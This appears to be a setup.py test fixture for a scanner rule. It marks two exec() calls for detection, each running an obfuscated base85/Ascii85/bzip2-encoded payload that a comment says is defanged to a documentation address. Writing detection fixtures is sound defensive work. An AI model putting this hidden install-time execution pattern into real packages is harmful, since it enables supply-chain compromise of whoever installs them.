import base64
import bz2

from setuptools import setup

# Defanged: a documentation address. Layers Python decodes with base85, Ascii85 and bzip2.
# ruleid: code/command-execution
exec(bz2.decompress(base64.b85decode('LRx4!F+o`-Q(2XQ)gJ%=4_SZ!5J2PdFbZbgWFP=kPyjRl08>QJ%@FiyFww=R7t&T15if!URGSToJPAH0o8z}TqC{3hoqHKSKB?F7cO+AV2?<y&QSb')))
# ruleid: code/command-execution
exec(base64.a85decode('Bl.g-Ec`FBEsci,/ou;ZFCf;;-[037F<E/T:G!]&FEDI_0/#%?1+k751+kI<Gp%JWF(cpM$3'))

setup(name='py-fixture-hexfmt', version='0.1.0', packages=['hexfmt'])
